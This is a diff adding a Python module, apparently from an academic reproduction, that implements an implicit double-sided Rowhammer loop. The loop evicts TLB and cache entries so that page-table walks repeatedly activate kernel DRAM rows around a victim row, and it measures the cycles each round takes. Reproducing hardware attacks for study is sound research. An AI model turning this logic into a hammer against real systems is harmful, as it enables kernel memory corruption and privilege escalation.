@@ -1,0 +1,74 @@
+"""The implicit double-sided hammer loop (Sections III-B, IV-D, IV-E).
+
+One hammer round, per target of the pair:
+
+1. sweep the target's TLB eviction set (drop the translation),
+2. sweep the target's LLC eviction set (drop the cached L1PTE line),
+3. touch the target — the walk misses the TLB, hits the PDE
+   paging-structure cache, misses the data caches on the L1PTE, and
+   fetches it from DRAM: one implicit activation of a kernel row.
+
+The two targets' L1PTEs sit in the same bank two rows apart, so their
+alternating activations row-conflict (clearing the row buffer — explicit
+hammer's requirement 2 for free) and double-side the victim row between
+them.  ``nop_padding`` inflates the per-round cost for the Figure-5
+sweep.
+"""
+
+from repro.core.layout import PROBE_DATA_OFFSET
+
+
+class HammerTarget:
+    """One side of a double-sided pair with its eviction sets."""
+
+    __slots__ = ("va", "tlb_set", "llc_set")
+
+    def __init__(self, va, tlb_set, llc_set):
+        self.va = va
+        self.tlb_set = tlb_set
+        self.llc_set = llc_set
+
+
+class DoubleSidedHammer:
+    """Runs hammer rounds and records per-round cycle costs.
+
+    ``llc_sweeps`` repeats each LLC eviction sweep; 1 suffices on the
+    paper's inclusive machines, 2 is needed on non-inclusive LLCs where
+    the first pass only demotes the L1PTE line from L2 into the victim
+    LLC (Section V).
+    """
+
+    def __init__(self, attacker, target_a, target_b, llc_sweeps=1):
+        self.attacker = attacker
+        self.target_a = target_a
+        self.target_b = target_b
+        self.llc_sweeps = llc_sweeps
+
+    def round(self, nop_padding=0):
+        """One double-sided iteration; returns its cost in cycles."""
+        attacker = self.attacker
+        touch = attacker.touch
+        start = attacker.rdtsc()
+        for target in (self.target_a, self.target_b):
+            for va in target.tlb_set:
+                touch(va)
+            for _ in range(self.llc_sweeps):
+                for va in target.llc_set.lines:
+                    touch(va)
+            touch(target.va + PROBE_DATA_OFFSET)
+        if nop_padding:
+            attacker.nop(nop_padding)
+        return attacker.rdtsc() - start
+
+    def run(self, rounds, nop_padding=0):
+        """``rounds`` iterations; returns the per-round cycle costs."""
+        return [self.round(nop_padding) for _ in range(rounds)]
+
+    def run_for_cycles(self, budget_cycles, nop_padding=0):
+        """Hammer until ``budget_cycles`` have elapsed; returns costs."""
+        attacker = self.attacker
+        deadline = attacker.rdtsc() + budget_cycles
+        costs = []
+        while attacker.rdtsc() < deadline:
+            costs.append(self.round(nop_padding))
+        return costs
